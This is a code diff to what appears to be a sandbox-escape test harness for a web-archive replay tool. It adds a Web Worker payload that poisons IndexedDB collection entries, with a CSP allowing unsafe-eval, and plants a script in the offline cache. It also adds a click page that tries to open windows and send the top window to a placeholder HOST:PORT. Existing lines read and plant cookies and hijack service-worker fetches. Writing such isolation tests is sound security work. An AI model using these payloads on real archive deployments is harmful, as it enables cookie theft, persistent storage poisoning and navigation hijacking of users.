@@ -89,6 +89,12 @@ const WAYS = {
   database: () => { const q = W.indexedDB.open('collDB'); q.onsuccess = () => { try {
       const t = q.result.transaction('colls', 'readwrite'); for (const name of ['loose', 'archive']) t.objectStore('colls').put({name, type: 'live', config: {root: true, dbname: 'db:' + name, sourceUrl: LIVE, metadata: {},
         extraConfig: {prefix: LIVE + 'stored/', isLive: true, csp: 'default-src * data: blob: ws: wss: \\'unsafe-inline\\' \\'unsafe-eval\\''}}}); ran('database'); } catch (e) { ran('database ' + e); } }; },
+  workerdatabase: () => { const text = `indexedDB.open('collDB').onsuccess = (e) => { try {
+      const t = e.target.result.transaction('colls', 'readwrite'); for (const name of ['loose', 'archive']) t.objectStore('colls').put({name, type: 'live', config: {root: true, dbname: 'db:' + name,
+        sourceUrl: '${LIVE}', metadata: {}, extraConfig: {prefix: '${LIVE}stored/', isLive: true, csp: "default-src * data: blob: ws: wss: 'unsafe-inline' 'unsafe-eval'"}}});
+      t.oncomplete = () => console.log('RAN poisoned'); } catch (x) { console.log('RAN not poisoned ' + x); } };
+      caches.open('wabac-offline').then((c) => c.put('/', new Response('<script>console.log("RAN FROM CACHE")<' + '/script>', {headers: {'Content-Type': 'text/html'}})));`;
+    new W.Worker(W.URL.createObjectURL(new W.Blob([text]))); },
   loose: () => { for (const n of ['loose', 'archive']) fresh().src = HOME + '/w/' + n + '/mp_/srcdoc:' + W.btoa('<img src=' + LIVE + 'loose>'); fresh().src = HOME + '/w/loose/2026mp_/' + LIVE + 'loose.html'; },
   cookies: () => { ran('COOKIE[' + W.document.cookie + ']'); W.document.cookie = 'planted=1;path=/'; W.document.cookie = 'planted2=1;path=/;domain=archive.localhost'; },
   parentcookies: () => { ran('COOKIE[' + W.top.document.cookie + ']'); },
@@ -116,7 +122,6 @@ const tried = [];
 for (const [name, way] of Object.entries(WAYS)) {
   try { const made = way(); if (made && made.catch) made.catch((e) => 0); tried.push(name); } catch (e) { tried.push(name); }
 }
-W.onclick = () => { ran('clicked'); try { W.open(LIVE + 'clicked'); } catch (e) {} try { Function('u', 'top.location = u')(LIVE + 'clickedtop'); } catch (e) {} };
 setTimeout(() => { WAYS.loose(); ran('ALL TRIED ' + tried.length); }, 1000);
 </script>
 <script>document.write('<iframe></iframe><script>RTC(W[W.length - 1], "written")<' + '/script>')</script>
@@ -157,3 +162,11 @@ if (self.RTCPeerConnection) { console.log('RAN WITH RTC: as it is'); const p = n
 p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }</script>"""
 WORKER = """fetch('http://HOST:PORT/workerfetch', {mode: 'no-cors'}); try { new WebSocket('ws://HOST:PORT/pathsocket') } catch (e) {}
 self.onfetch = (e) => e.respondWith(new Response('HIJACKED'));"""
+CLICK = """<!doctype html><title>click</title><button id=b>click</button><script>
+document.getElementById('b').addEventListener('click', () => {
+  for (const way of ['open(u)', 'open(u, "_top")', 'top.location = u', 'top.location.replace(u)', 'parent.location = u', 'parent.parent.location = u', 'navigator.share({url: u})']) {
+    try { const made = Function('u', 'return ' + way)('http://HOST:PORT/clicked'); if (made && made.catch) made.catch(() => 0); } catch (e) { }
+  }
+  console.log('RAN clicked');
+});</script>"""
+"""What a reader's click allows a page elsewhere: windows, and leading the whole window away."""
